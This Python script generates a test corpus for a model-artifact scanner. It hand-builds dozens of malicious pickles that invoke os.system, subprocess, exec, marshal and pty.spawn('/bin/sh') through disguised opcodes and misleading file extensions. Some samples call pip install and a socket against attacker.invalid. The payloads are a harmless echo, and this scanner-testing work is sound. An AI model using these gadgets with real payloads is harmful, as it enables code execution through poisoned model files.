#!/usr/bin/env python3
"""Generate warden's deterministic test corpus of benign and malicious model artifacts.

Usage: gen_corpus.py OUTDIR

Writes OUTDIR/benign/<format>/..., OUTDIR/malicious/<format>/... and OUTDIR/manifest.json:
    {"samples": [{"path": "malicious/pickle/p0_os_system.pkl", "verdict": "malicious",
                  "technique": "...", "format": "pickle"}, ...]}
A sample's path is a file, or a directory when the artifact is one (a SavedModel, an ONNX model
with external data); every file under benign/ and malicious/ belongs to exactly one sample.

Safety: nothing here ever runs a payload. Malicious pickles are assembled opcode by opcode, or
pickled from objects whose `__reduce__` merely *names* a dangerous callable; nothing is ever
unpickled, and code objects are only compiled and marshalled. Payload commands are harmless
(`echo WARDEN_CORPUS_PAYLOAD`) and hosts are under `.invalid`, so even an accidental load does
no damage.

Determinism: the same bytes on every run (on the same pinned environment, see
scripts/corpus-requirements.txt): fixed seeds, zip/tar/gzip/7z timestamps fixed, PYTHONHASHSEED
and BLAS threads pinned by re-executing ourselves. torch and tensorflow are not installed: their
formats are emulated (fake `torch` modules in sys.modules, a hand-written protobuf encoder).
"""

import os
import sys

_DETERMINISTIC_ENV = {
    "PYTHONHASHSEED": "0",
    "OMP_NUM_THREADS": "1",
    "OPENBLAS_NUM_THREADS": "1",
    "MKL_NUM_THREADS": "1",
    "TZ": "UTC",
    "PYTHONDONTWRITEBYTECODE": "1",
}
if any(os.environ.get(k) != v for k, v in _DETERMINISTIC_ENV.items()):
    # Hash seeds and thread counts must be fixed before the interpreter and numpy start.
    os.execve(sys.executable, [sys.executable, os.path.abspath(__file__), *sys.argv[1:]],
              {**os.environ, **_DETERMINISTIC_ENV})

import base64  # noqa: E402
import bz2  # noqa: E402
import codecs  # noqa: E402
import collections  # noqa: E402
import gzip  # noqa: E402
import hashlib  # noqa: E402
import io  # noqa: E402
import json  # noqa: E402
import lzma  # noqa: E402
import marshal  # noqa: E402
import pickle  # noqa: E402
import pickletools  # noqa: E402
import shutil  # noqa: E402
import struct  # noqa: E402
import tarfile  # noqa: E402
import tempfile  # noqa: E402
import time  # noqa: E402
import types  # noqa: E402
import warnings  # noqa: E402
import zipfile  # noqa: E402
import zlib  # noqa: E402

import numpy as np  # noqa: E402

warnings.filterwarnings("ignore")

CMD = "echo WARDEN_CORPUS_PAYLOAD"
SRC = "import os; os.system('echo WARDEN_CORPUS_PAYLOAD')"
EXPR = "__import__('os').system('echo WARDEN_CORPUS_PAYLOAD')"
EPOCH = (1980, 1, 1, 0, 0, 0)
SEED = 20240601


# --------------------------------------------------------------------------------------------
# The corpus and its manifest


class Corpus:
    """Writes samples under a root and remembers them for the manifest."""

    def __init__(self, root):
        self.root = root
        self.samples = []
        self._paths = set()

    def _claim(self, rel):
        if rel in self._paths:
            raise SystemExit(f"duplicate sample path {rel}")
        self._paths.add(rel)

    def add(self, verdict, fmt, name, data, technique):
        """One file sample at <verdict>/<fmt>/<name>."""
        rel = f"{verdict}/{fmt}/{name}"
        self._claim(rel)
        self._write(rel, data)
        self.samples.append({"path": rel, "verdict": verdict, "technique": technique, "format": fmt})

    def add_dir(self, verdict, fmt, name, files, technique):
        """One directory sample (a SavedModel, a model with external data)."""
        rel = f"{verdict}/{fmt}/{name}"
        self._claim(rel)
        for sub, data in sorted(files.items()):
            self._write(f"{rel}/{sub}", data)
        self.samples.append({"path": rel, "verdict": verdict, "technique": technique, "format": fmt})

    def _write(self, rel, data):
        path = os.path.join(self.root, rel)
        os.makedirs(os.path.dirname(path), exist_ok=True)
        with open(path, "wb") as f:
            f.write(data)

    def write_manifest(self):
        samples = sorted(self.samples, key=lambda s: s["path"])
        with open(os.path.join(self.root, "manifest.json"), "w", encoding="utf-8") as f:
            json.dump({"samples": samples}, f, indent=1, sort_keys=True)
            f.write("\n")


def rng(tag):
    """A generator seeded from SEED and a tag, so adding a sample never shifts another's bytes."""
    return np.random.default_rng([SEED, int.from_bytes(hashlib.sha256(tag.encode()).digest()[:4], "little")])


# --------------------------------------------------------------------------------------------
# Pickle assembly by hand


class Asm:
    """Encodes pickle opcodes for one protocol. Methods return bytes to concatenate."""

    def __init__(self, proto):
        self.proto = proto
        self.builtins = "builtins" if proto >= 3 else "__builtin__"

    def glob(self, module, name, stack=None):
        """Push module.name: GLOBAL before protocol 4, STACK_GLOBAL from 4 on (or as asked)."""
        if stack is None:
            stack = self.proto >= 4
        if stack:
            return self.val(module) + self.val(name) + b"\x93"
        return b"c" + f"{module}\n{name}\n".encode()

    def builtin(self, name):
        return self.glob(self.builtins, name)

    def val(self, v):
        p = self.proto
        if v is None:
            return b"N"
        if v is True or v is False:
            if p >= 2:
                return b"\x88" if v else b"\x89"
            return b"I01\n" if v else b"I00\n"
        if isinstance(v, int):
            if p == 0:
                return b"I%d\n" % v
            if 0 <= v < 256:
                return b"K" + bytes([v])
            if 0 <= v < 65536:
                return b"M" + struct.pack("<H", v)
            if -(2**31) <= v < 2**31:
                return b"J" + struct.pack("<i", v)
            if p >= 2:
                enc = pickle.encode_long(v)
                return b"\x8a" + bytes([len(enc)]) + enc
            return b"L%dL\n" % v
        if isinstance(v, float):
            if p == 0:
                return b"F" + repr(v).encode() + b"\n"
            return b"G" + struct.pack(">d", v)
        if isinstance(v, str):
            if p == 0:
                esc = (v.replace("\\", "\\u005c").replace("\0", "\\u0000").replace("\n", "\\u000a")
                       .replace("\r", "\\u000d").replace("\x1a", "\\u001a"))
                return b"V" + esc.encode("raw-unicode-escape") + b"\n"
            raw = v.encode("utf-8")
            if p >= 4 and len(raw) < 256:
                return b"\x8c" + bytes([len(raw)]) + raw
            return b"X" + struct.pack("<I", len(raw)) + raw
        if isinstance(v, (bytes, bytearray)):
            v = bytes(v)
            if p >= 3:
                if len(v) < 256:
                    return b"C" + bytes([len(v)]) + v
                return b"B" + struct.pack("<I", len(v)) + v
            # What CPython itself emits for bytes before protocol 3.
            return self.call(self.glob("_codecs", "encode"), self.val(v.decode("latin1")), self.val("latin1"))
        if isinstance(v, tuple):
            return self.tup(*(self.val(x) for x in v))
        if isinstance(v, list):
            return b"(" + b"".join(self.val(x) for x in v) + b"l"
        if isinstance(v, dict):
            return b"(" + b"".join(self.val(k) + self.val(x) for k, x in v.items()) + b"d"
        raise TypeError(f"cannot encode {type(v)}")

    def tup(self, *items):
        n = len(items)
        if n == 0:
            return b")" if self.proto >= 1 else b"(t"
        if self.proto >= 2 and n <= 3:
            return b"".join(items) + (b"\x85", b"\x86", b"\x87")[n - 1]
        return b"(" + b"".join(items) + b"t"

    def call(self, fn, *args):
        """fn(*args) with REDUCE; fn and args are already-encoded bytes."""
        return fn + self.tup(*args) + b"R"

    def getattr(self, obj, name):
        return self.call(self.builtin("getattr"), obj, self.val(name))

    def header(self):
        return b"\x80" + bytes([self.proto]) if self.proto >= 2 else b""

    def finish(self, body, stop=True):
        data = body + (b"." if stop else b"")
        if self.proto >= 4:
            # One FRAME around everything, as pickle.dumps does for small pickles.
            return self.header() + b"\x95" + struct.pack("<Q", len(data)) + data
        return self.header() + data


def system_call(a, module="os", name="system", cmd=CMD):
    return a.call(a.glob(module, name), a.val(cmd))


def hand(proto, body_fn):
    a = Asm(proto)
    return a.finish(body_fn(a))


def os_system_pickle(proto, module="os"):
    return hand(proto, lambda a: system_call(a, module))


class Reduce:
    """An object whose pickle is a call of `fn(*args)`; pickling only names `fn`."""

    def __init__(self, fn, args):
        self.fn, self.args = fn, args

    def __reduce__(self):
        return (self.fn, self.args)


def checked(data):
    """Refuse to write a hand-made pickle that is not well-formed (pickletools never executes)."""
    pickletools.dis(data, out=io.StringIO())
    return data


def code_fields(code):
    """The positional arguments of types.CodeType(...) on CPython 3.11."""
    return (code.co_argcount, code.co_posonlyargcount, code.co_kwonlyargcount, code.co_nlocals,
            code.co_stacksize, code.co_flags, code.co_code, code.co_consts, code.co_names,
            code.co_varnames, code.co_filename, code.co_name, code.co_qualname, code.co_firstlineno,
            code.co_linetable, code.co_exceptiontable, code.co_freevars, code.co_cellvars)


def payload_code():
    return compile(SRC, "<payload>", "exec")


def gen_pickles(c):
    import os as os_mod
    import shutil as shutil_mod
    import socket
    import subprocess
    import webbrowser

    mal = lambda name, data, technique: c.add("malicious", "pickle", name, data, technique)  # noqa: E731
    ben = lambda name, data, technique: c.add("benign", "pickle", name, data, technique)  # noqa: E731

    # os.system by hand in every protocol; posix.system (what pickle itself writes) in every protocol.
    for p in range(6):
        op = "STACK_GLOBAL" if p >= 4 else "GLOBAL"
        mal(f"p{p}_os_system.pkl", checked(os_system_pickle(p)), f"protocol {p} {op} os.system + REDUCE")
        mal(f"p{p}_posix_system.pkl", pickle.dumps(Reduce(os_mod.system, (CMD,)), protocol=p),
            f"protocol {p} pickle.dumps of __reduce__ -> posix.system")
    mal("p2_nt_system.pkl", checked(os_system_pickle(2, "nt")), "protocol 2 GLOBAL nt.system (Windows os)")

    mal("p2_subprocess_popen.pkl",
        pickle.dumps(Reduce(subprocess.Popen, (["sh", "-c", CMD],)), protocol=2),
        "protocol 2 subprocess.Popen(['sh','-c',...])")
    mal("p4_subprocess_check_output.pkl",
        pickle.dumps(Reduce(subprocess.check_output, (["sh", "-c", CMD],)), protocol=4),
        "protocol 4 STACK_GLOBAL subprocess.check_output")
    mal("p3_builtins_eval.pkl", pickle.dumps(Reduce(eval, (EXPR,)), protocol=3), "protocol 3 builtins.eval(expr)")
    mal("p2_builtin_eval.pkl", pickle.dumps(Reduce(eval, (EXPR,)), protocol=2),
        "protocol 2 __builtin__.eval (Python 2 module name via fix_imports)")
    mal("p4_builtins_exec.pkl", pickle.dumps(Reduce(exec, (SRC,)), protocol=4), "protocol 4 builtins.exec(source)")

    def import_getattr(a):
        os_module = a.call(a.builtin("__import__"), a.val("os"))
        return a.call(a.getattr(os_module, "system"), a.val(CMD))

    mal("p2_import_getattr_chain.pkl", checked(hand(2, import_getattr)),
        "protocol 2 getattr(__import__('os'),'system')(cmd) with nested REDUCEs")
    mal("p0_import_getattr_chain.pkl", checked(hand(0, import_getattr)),
        "protocol 0 getattr(__import__('os'),'system')(cmd) with nested REDUCEs")

    def importlib_chain(a):
        os_module = a.call(a.glob("importlib", "import_module"), a.val("os"))
        return a.call(a.getattr(os_module, "system"), a.val(CMD))

    mal("p3_importlib_import_module.pkl", checked(hand(3, importlib_chain)),
        "protocol 3 importlib.import_module('os') + getattr system")
    mal("p2_runpy_run_code.pkl",
        checked(hand(2, lambda a: a.call(a.glob("runpy", "_run_code"), a.val(SRC), a.val({})))),
        "protocol 2 runpy._run_code(source, {})")
    mal("p3_pip_main.pkl",
        checked(hand(3, lambda a: a.call(a.glob("pip", "main"), a.val(
            ["install", "--index-url", "http://attacker.invalid/simple", "evil"])))),
        "protocol 3 pip.main(['install', ...]) installs attacker code")
    mal("p2_webbrowser_open.pkl", pickle.dumps(Reduce(webbrowser.open, ("http://attacker.invalid/",)), protocol=2),
        "protocol 2 webbrowser.open(url)")
    mal("p4_socket_create_connection.pkl",
        pickle.dumps(Reduce(socket.create_connection, (("attacker.invalid", 4444),)), protocol=4),
        "protocol 4 socket.create_connection((host, port))")
    mal("p3_shutil_rmtree.pkl",
        pickle.dumps(Reduce(shutil_mod.rmtree, ("/tmp/warden-corpus-victim",)), protocol=3),
        "protocol 3 shutil.rmtree(path)")

    def methodcaller(a):
        caller = a.call(a.glob("operator", "methodcaller"), a.val("system"), a.val(CMD))
        return a.call(caller, a.call(a.builtin("__import__"), a.val("os")))

    mal("p2_operator_methodcaller.pkl", checked(hand(2, methodcaller)),
        "protocol 2 operator.methodcaller('system', cmd)(__import__('os'))")

    def partial(a):
        bound = a.call(a.glob("functools", "partial"), a.glob("os", "system"), a.val(CMD))
        return bound + a.tup() + b"R"

    mal("p4_functools_partial.pkl", checked(hand(4, partial)), "protocol 4 functools.partial(os.system, cmd)()")

    def function_type(a):
        code = a.call(a.glob("types", "CodeType"), *(a.val(f) for f in code_fields(payload_code())))
        fn = a.call(a.glob("types", "FunctionType"), code, a.val({}))
        return fn + a.tup() + b"R"

    mal("p4_types_functiontype_codetype.pkl", checked(hand(4, function_type)),
        "protocol 4 types.FunctionType(types.CodeType(...), {})()")

    def marshal_loads(a):
        code = a.call(a.glob("marshal", "loads"), a.val(marshal.dumps(payload_code())))
        fn = a.call(a.glob("types", "FunctionType"), code, a.val({}))
        return fn + a.tup() + b"R"

    mal("p3_marshal_loads.pkl", checked(hand(3, marshal_loads)),
        "protocol 3 types.FunctionType(marshal.loads(bytes), {})()")

    inner = os_system_pickle(2)
    mal("p3_nested_pickle_loads.pkl",
        checked(hand(3, lambda a: a.call(a.glob("pickle", "loads"), a.val(inner)))),
        "protocol 3 pickle.loads(b'<malicious pickle>')")
    mal("p5_nested_cpickle_loads.pkl",
        checked(hand(5, lambda a: a.call(a.glob("_pickle", "loads"), a.val(os_system_pickle(4))))),
        "protocol 5 _pickle.loads(b'<malicious protocol 4 pickle>')")

    # STACK_GLOBAL whose module and name come from the memo, stored earlier inside harmless data.
    a = Asm(4)
    body = (b"}" + b"(" + a.val("format") + a.val("os") + b"q\x00" + a.val("entry") + a.val("system") + b"q\x01"
            + b"u" + b"0"  # dict built, then dropped
            + b"h\x00" + b"h\x01" + b"\x93" + a.val(CMD) + b"\x85R")
    mal("p4_stack_global_from_memo.pkl", checked(a.finish(body)),
        "protocol 4 STACK_GLOBAL with module/name fetched from the memo (BINPUT/BINGET)")
    a = Asm(5)
    body = (a.val("os") + b"\x94" + a.val("system") + b"\x94" + b"0" + b"0"
            + b"j\x00\x00\x00\x00" + b"j\x01\x00\x00\x00" + b"\x93" + a.val(CMD) + b"\x85R")
    mal("p5_stack_global_memoize_long_binget.pkl", checked(a.finish(body)),
        "protocol 5 STACK_GLOBAL with module/name from MEMOIZE/LONG_BINGET")

    a = Asm(4)
    mal("p4_stack_global_dotted_name.pkl",
        checked(a.finish(a.call(a.glob("code", "InteractiveInterpreter.runsource"),
                                a.call(a.glob("code", "InteractiveInterpreter")), a.val(SRC)))),
        "protocol 4 STACK_GLOBAL dotted name code.InteractiveInterpreter.runsource")

    a = Asm(0)
    mal("p0_inst_opcode.pkl", checked(b"(" + a.val(CMD) + b"ios\nsystem\n."), "protocol 0 INST os system")
    a = Asm(1)
    mal("p1_obj_opcode.pkl", checked(b"(" + a.glob("os", "system") + a.val(CMD) + b"o."), "protocol 1 OBJ opcode on os.system")
    a = Asm(2)
    mal("p2_newobj_popen.pkl",
        checked(a.finish(a.glob("subprocess", "Popen") + a.tup(a.val(["sh", "-c", CMD])) + b"\x81")),
        "protocol 2 NEWOBJ on subprocess.Popen")
    a = Asm(4)
    mal("p4_newobj_ex_popen.pkl",
        checked(a.finish(a.glob("subprocess", "Popen") + a.tup(a.val(["sh", "-c", CMD])) + a.val({"shell": False})
                         + b"\x92")),
        "protocol 4 NEWOBJ_EX on subprocess.Popen")

    # copyreg.add_extension registers os.system under code 240, then EXT1 240 fetches it.
    a = Asm(2)
    body = (a.call(a.glob("copyreg", "add_extension"), a.val("os"), a.val("system"), a.val(240)) + b"0"
            + b"\x82\xf0" + a.tup(a.val(CMD)) + b"R")
    mal("p2_ext1_copyreg.pkl", checked(a.finish(body)), "protocol 2 copyreg.add_extension + EXT1 code 240 -> os.system")

    garbage = bytes(rng("garbage").integers(0, 256, 96, dtype=np.uint8))
    a = Asm(2)
    mal("p2_payload_then_garbage.pkl", a.header() + system_call(a) + b"\xff" + garbage,
        "protocol 2 os.system REDUCE then garbage bytes instead of STOP (broken on purpose)")
    a = Asm(3)
    mal("p3_payload_then_truncated.pkl",
        a.header() + system_call(a) + b"0" + b"X" + struct.pack("<I", 4096) + b"truncated",
        "protocol 3 os.system REDUCE then a BINUNICODE cut short, no STOP (truncated)")
    mal("p2_two_pickles_second_malicious.pkl",
        pickle.dumps({"epoch": 3, "loss": 0.125}, protocol=2) + os_system_pickle(2),
        "two pickles back to back, the first benign, the second os.system")

    text = ("c__builtin__\nexec\np0\n(V" + "import os\\u000aos.system('" + CMD + "')\np1\ntp2\nRp3\n.")
    mal("p0_multiline_disguised.txt", checked(text.encode()),
        "multi-line protocol 0 __builtin__.exec payload with PUT memo, named .txt")
    a = Asm(0)
    mal("notes_p0_string_opcode.txt",
        checked(b"cposix\nsystem\n(S'" + CMD.encode() + b"'\ntR."),
        "protocol 0 posix.system with STRING opcode, named .txt")

    mal("p2_numpy_load_nested.pkl",
        checked(hand(2, lambda a: a.call(a.glob("numpy", "load"), a.val("/tmp/evil.npy"), a.val(None), a.val(True)))),
        "protocol 2 numpy.load(path, None, allow_pickle=True) nested loader")
    mal("p2_torch_load_nested.pkl",
        checked(hand(2, lambda a: a.call(a.glob("torch", "load"), a.val("/tmp/evil.pt")))),
        "protocol 2 torch.load(path) nested loader")
    mal("p2_torch_serialization_load.pkl",
        checked(hand(2, lambda a: a.call(a.glob("torch.serialization", "load"), a.val("/tmp/evil.pt")))),
        "protocol 2 torch.serialization.load(path) nested loader")

    def ctypes_cdll(a):
        libc = a.call(a.glob("ctypes", "CDLL"), a.val("libc.so.6"))
        return a.call(a.getattr(libc, "system"), a.val(CMD.encode()))

    mal("p3_ctypes_cdll.pkl", checked(hand(3, ctypes_cdll)), "protocol 3 getattr(ctypes.CDLL('libc.so.6'),'system')(cmd)")

    def interpreter(a):
        interp = a.call(a.glob("code", "InteractiveInterpreter"))
        return a.call(a.getattr(interp, "runsource"), a.val(SRC))

    mal("p3_code_interactive_interpreter.pkl", checked(hand(3, interpreter)),
        "protocol 3 code.InteractiveInterpreter().runsource(source)")
    mal("p2_timeit.pkl",
        checked(hand(2, lambda a: a.call(a.glob("timeit", "timeit"), a.val(SRC), a.val("pass"),
                                         a.glob("time", "perf_counter"), a.val(1)))),
        "protocol 2 timeit.timeit(source, 'pass', time.perf_counter, 1)")

    def compile_exec(a):
        code = a.call(a.builtin("compile"), a.val(SRC), a.val("<string>"), a.val("exec"))
        return a.call(a.builtin("exec"), code)

    mal("p1_builtin_compile.pkl", checked(hand(1, compile_exec)), "protocol 1 exec(compile(source,...))")

    def sys_modules(a):
        os_module = a.call(a.glob("operator", "getitem"), a.glob("sys", "modules"), a.val("os"))
        return a.call(a.getattr(os_module, "system"), a.val(CMD))

    mal("p3_sys_modules_getitem.pkl", checked(hand(3, sys_modules)),
        "protocol 3 getattr(operator.getitem(sys.modules,'os'),'system')(cmd)")
    mal("p2_cprofile_run.pkl", checked(hand(2, lambda a: a.call(a.glob("cProfile", "run"), a.val(SRC)))),
        "protocol 2 cProfile.run(source)")
    mal("p4_pdb_run.pkl", checked(hand(4, lambda a: a.call(a.glob("pdb", "run"), a.val(SRC)))), "protocol 4 pdb.run(source)")
    mal("p4_asyncio_subprocess_shell.pkl",
        checked(hand(4, lambda a: a.call(a.glob("asyncio", "run"),
                                         a.call(a.glob("asyncio", "create_subprocess_shell"), a.val(CMD))))),
        "protocol 4 asyncio.run(asyncio.create_subprocess_shell(cmd))")
    fork_args = ([b"/bin/sh", b"-c", CMD.encode()], [b"/bin/sh"], True, (), None, None,
                 -1, -1, -1, -1, -1, -1, 3, 4, True, False, 0, None, None, None, None)
    mal("p5_posixsubprocess_fork_exec.pkl",
        checked(hand(5, lambda a: a.call(a.glob("_posixsubprocess", "fork_exec"), *(a.val(x) for x in fork_args)))),
        "protocol 5 _posixsubprocess.fork_exec(...)")
    mal("p1_pty_spawn.pkl", checked(hand(1, lambda a: a.call(a.glob("pty", "spawn"), a.val("/bin/sh")))),
        "protocol 1 pty.spawn('/bin/sh')")

    # Misleading names: the content decides, not the extension.
    mal("p4_os_system_named.safetensors", os_system_pickle(4), "protocol 4 os.system pickle named .safetensors")
    mal("p2_os_system_named.json", os_system_pickle(2), "protocol 2 os.system pickle named .json")

    gen_dill_cloudpickle(c)

    # Benign pickles: plain data in every protocol, and the objects real checkpoints carry.
    data = {"name": "tiny-mlp", "epoch": 12, "lr": 0.001, "layers": [8, 16, 2], "shape": (2, 3),
            "tags": ["demo", "cpu"], "finished": True, "note": None, "blob": b"\x00\x01\x02", "big": 2**70}
    for p in range(6):
        ben(f"p{p}_plain_data.pkl", pickle.dumps(data, protocol=p), f"protocol {p} plain dict/list/str/bytes/int")
    ben("p2_ordered_dict.pkl",
        pickle.dumps(collections.OrderedDict([("fc.weight", [0.1, 0.2]), ("fc.bias", [0.0])]), protocol=2),
        "collections.OrderedDict state")
    arrays = {"w": rng("benign-arrays").standard_normal((4, 3)).astype(np.float32), "ids": np.arange(6, dtype=np.int64)}
    ben("p2_numpy_arrays.pkl", pickle.dumps(arrays, protocol=2), "numpy arrays pickled (numpy _reconstruct, dtype)")
    ben("p5_numpy_arrays.pkl", pickle.dumps(arrays, protocol=5), "numpy arrays pickled with protocol 5")
    ben("p5_bytearray.pkl", pickle.dumps({"buf": bytearray(b"abcdef" * 4)}, protocol=5),
        "protocol 5 BYTEARRAY8 buffer")
    import datetime
    ben("p4_training_metadata.pkl",
        pickle.dumps({"started": datetime.datetime(2024, 5, 1, 12, 30), "date": datetime.date(2024, 5, 1),
                      "elapsed": datetime.timedelta(minutes=42), "metrics": collections.OrderedDict(acc=0.91)},
                     protocol=4),
        "datetime/date/timedelta and OrderedDict metadata")
    ben("p3_complex_and_sets.pkl", pickle.dumps({"ids": frozenset({1, 2, 3}), "z": complex(1, 2)}, protocol=3),
        "frozenset and complex (builtins.frozenset/complex globals)")
    ben("p2_plain_named.txt", pickle.dumps(["just", "a", "list"], protocol=2), "plain list pickle named .txt")


def gen_dill_cloudpickle(c):
    import cloudpickle
    import dill

    namespace = {"__name__": "__main__", "__builtins__": __builtins__}
    fn = eval(compile("lambda x: __import__('os').system('echo WARDEN_CORPUS_PAYLOAD') or x", "<corpus>", "eval"),
              namespace)
    exec(compile("def preprocess(batch):\n    return [v * 2 for v in batch]\n", "<corpus>", "exec"), namespace)
    c.add("malicious", "pickle", "dill_lambda.pkl", dill.dumps(fn, protocol=4, recurse=True),
          "dill output of a lambda (carries a code object)")
    c.add("malicious", "pickle", "dill_function.pkl", dill.dumps(namespace["preprocess"], protocol=3),
          "dill output of a plain function (carries a code object)")
    c.add("malicious", "pickle", "cloudpickle_lambda.pkl", cloudpickle.dumps(fn, protocol=5),
          "cloudpickle output of a lambda (code object rebuilt from bytes)")
    c.add("malicious", "pickle", "cloudpickle_function.pkl", cloudpickle.dumps(namespace["preprocess"], protocol=4),
          "cloudpickle output of a plain function (code object rebuilt from bytes)")
    plain = {"vocab": ["<pad>", "<unk>", "hello"], "max_len": 128, "lower": True}
    c.add("benign", "pickle", "dill_plain_data.pkl", dill.dumps(plain, protocol=4), "dill output of plain data")
    c.add("benign", "pickle", "cloudpickle_plain_data.pkl", cloudpickle.dumps(plain, protocol=5),
          "cloudpickle output of plain data")
